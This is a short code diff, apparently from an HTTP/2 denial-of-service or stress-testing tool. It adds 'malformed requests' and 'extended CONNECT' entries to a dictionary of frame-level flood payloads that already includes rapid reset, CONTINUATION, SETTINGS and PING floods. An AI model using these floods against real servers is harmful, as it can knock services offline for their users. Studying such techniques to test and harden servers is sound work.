@@ -167,6 +167,8 @@ def bomb(stream_id: int) -> bytes:
 FLOODS: dict[str, Callable[[int], bytes]] = {
     "rapid reset": lambda i: get(i) + h2.pack_rst(i, h2.CANCEL),
     "made you reset": lambda i: get(i, flags=h2.END_HEADERS) + h2.pack_window_update(i, 0),
+    "malformed requests": lambda i: get(i, path=b"x"),
+    "extended CONNECT of nothing": lambda i: get(i, (b":protocol", b"x")),
     "CONTINUATION": lambda i: get(1, flags=0) if i == 1 else h2.pack_frame(h2.CONTINUATION, 0, 1),
     "SETTINGS": lambda i: h2.pack_frame(h2.SETTINGS, 0, 0, struct.pack(">HI", 4, i)),
     "PING": lambda _: h2.pack_frame(h2.PING, 0, 0, bytes(8)),
